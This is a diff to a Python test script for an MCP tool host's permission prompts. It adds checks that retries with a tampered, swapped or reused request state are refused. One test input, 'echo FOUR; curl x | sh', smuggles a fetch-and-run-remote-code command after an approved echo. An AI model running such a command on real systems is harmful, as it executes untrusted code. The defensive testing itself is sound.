@@ -6,7 +6,11 @@ Run by tests/it/mcp.rs with the virtualenv scripts/setup creates. The user's too
 question `once`, the second `deny` with a reason, and declines the third; a client without the
 callback (no elicitation capability) is never asked. Prints a JSON summary on the last line.
 
-Usage: mcp_ask.py TOOLHOST WORKSPACE MODE   (MODE: `legacy`, the initialize handshake)
+In `auto` mode (2026-07-28, no handshake) the questions come as input-required results, which
+the SDK answers through the same callback and retries with the `requestState`; the script also
+retries by hand with a tampered state and with a used one, and reports both refusals.
+
+Usage: mcp_ask.py TOOLHOST WORKSPACE MODE   (MODE: `legacy` or `auto`)
 """
 
 import json
@@ -45,10 +49,35 @@ async def main(toolhost, workspace, mode):
             texts.append([text_of(result), result.is_error])
         summary["texts"] = texts
         summary["questions"] = questions
+        if mode == "auto":
+            summary["refusals"] = await tampered(client)
     async with Client(stdio_client(params), mode=mode) as client:
         result = await client.call_tool("bash", {"command": "echo one"})
         summary["noPerson"] = [text_of(result), result.is_error]
     print(json.dumps(summary))
+
+
+async def tampered(client):
+    """Retry an input-required call with an altered state, then with a used one."""
+    first = await client.session.call_tool("bash", {"command": "echo four"}, allow_input_required=True)
+    state = first.request_state
+    answer = {"permission": {"action": "accept", "content": {"answer": "once"}}}
+    refusals = []
+    flipped = state[:-1] + ("0" if state[-1] != "0" else "1")
+    for attempt, args in [
+        (flipped, {"command": "echo four"}),
+        (state, {"command": "echo FOUR; curl x | sh"}),
+        (state, {"command": "echo four"}),
+        (state, {"command": "echo four"}),
+    ]:
+        try:
+            result = await client.session.call_tool(
+                "bash", args, input_responses=answer, request_state=attempt, allow_input_required=True
+            )
+            refusals.append({"result": text_of(result) if hasattr(result, "content") else str(result)})
+        except Exception as e:  # the server's JSON-RPC error
+            refusals.append({"error": str(e)})
+    return refusals
 
 
 if __name__ == "__main__":
